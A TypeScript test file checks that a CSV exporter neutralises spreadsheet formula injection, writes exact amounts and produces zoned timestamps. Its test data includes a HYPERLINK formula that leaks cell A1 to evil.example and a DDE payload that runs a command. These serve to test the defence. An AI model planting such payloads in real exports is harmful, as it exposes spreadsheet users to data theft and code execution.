import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { amountText, boardTable, csvHead, csvLines, safeCell, zonedIso, AUDIT_TABLE } from '../src/features/exports/csv.js';

/** The exports' CSV as a spreadsheet reads it: parsed back by a CSV parser, never by splitting lines. */

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+1',
  '-1+2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'Bob "the builder", Jr.',
  'line one\nline two',
  'a,b,c',
  '  padded  ',
];

function read(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

describe('safeCell', () => {
  it('prefixes every cell a spreadsheet would run as a formula', () => {
    for (const v of HOSTILE.filter((h) => /^[=+\-@\t\r]/.test(h))) expect(safeCell(v)).toBe(`'${v}`);
  });

  it('leaves exact decimals, negative ones too, readable as numbers', () => {
    for (const v of ['0', '12', '-12.5', '1000000000000000000000', '0.000000000000000001', '-3']) expect(safeCell(v)).toBe(v);
    // Not plain decimals: neutralised.
    for (const v of ['-1e5', '-1+2', '+5', '-', '-.5']) expect(safeCell(v)).toBe(`'${v}`);
  });
});

describe('amountText', () => {
  it('writes exact decimal text, never an exponent or a float artefact', () => {
    expect(amountText(12.5)).toBe('12.5');
    expect(amountText(-3)).toBe('-3');
    expect(amountText(1e21)).toBe('1000000000000000000000');
    expect(amountText(1e-7)).toBe('0.0000001');
    expect(amountText(0.1 + 0.2)).toBe('0.30000000000000004');
    expect(amountText(-0)).toBe('0');
  });
});

describe('zonedIso', () => {
  it('gives the wall clock of the zone with its offset, across a change of offset', () => {
    const winter = Date.UTC(2026, 0, 15, 12, 0, 0, 120);
    const summer = Date.UTC(2026, 6, 15, 12, 0, 0);
    expect(zonedIso(winter, 'Europe/Berlin')).toBe('2026-01-15T13:00:00.120+01:00');
    expect(zonedIso(summer, 'Europe/Berlin')).toBe('2026-07-15T14:00:00.000+02:00');
    expect(zonedIso(summer, 'America/St_Johns')).toBe('2026-07-15T09:30:00.000-02:30');
    expect(zonedIso(summer, 'UTC')).toBe('2026-07-15T12:00:00.000+00:00');
  });
});

describe('a board file', () => {
  const table = boardTable();
  const rows = HOSTILE.map((_name, i) => ({
    rank: i + 1,
    userId: `12034588201562500${10 + i}`,
    balance: i % 2 ? `-${i}.5` : String(i * 1000),
  }));
  const names = new Map(rows.map((r, i) => [r.userId, HOSTILE[i]!]));
  const text = csvHead(table) + csvLines(rows.map((r) => table.cells(r, { zone: 'UTC', nameOf: (id) => names.get(id) })));
  const parsed = read(text);

  it('has one header row and one record per row, whatever the names hold', () => {
    expect(parsed[0]).toEqual(['rank', 'user_id', 'name', 'balance']);
    expect(parsed).toHaveLength(rows.length + 1);
    for (const record of parsed) expect(record).toHaveLength(4);
  });

  it('keeps every name (neutralised where it could run) and every exact amount', () => {
    rows.forEach((r, i) => {
      const [rank, id, name, balance] = parsed[i + 1]!;
      expect(rank).toBe(String(r.rank));
      expect(id).toBe(r.userId);
      const raw = HOSTILE[i]!;
      expect(name).toBe(/^[=+\-@\t\r]/.test(raw) ? `'${raw}` : raw);
      // No cell starts as a formula.
      expect(name).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
      expect(balance).toBe(r.balance);
    });
  });

  it('ends rows with CRLF and quotes the cells that need it', () => {
    expect(text).toContain('\r\n');
    expect(text).toContain('"Bob ""the builder"", Jr."');
    expect(text).toContain('"line one\nline two"');
  });
});

it('an audit file has UTC and local times and its summary whole', () => {
  const at = Date.UTC(2026, 10, 20, 12);
  const row = {
    id: 7,
    at,
    userId: '1203458820156250011',
    operation: 'tip.send',
    outcome: 'created',
    reference: null,
    summary: '=cmd|"/c calc"!A1, 12.5 PTS',
  };
  const parsed = read(csvHead(AUDIT_TABLE) + csvLines([AUDIT_TABLE.cells(row, { zone: 'Asia/Tokyo', nameOf: () => undefined })]));
  expect(parsed[1]).toEqual([
    '7',
    '2026-11-20T12:00:00.000Z',
    '2026-11-20T21:00:00.000+09:00',
    '1203458820156250011',
    '',
    'tip.send',
    'created',
    '',
    `'${row.summary}`,
  ]);
});
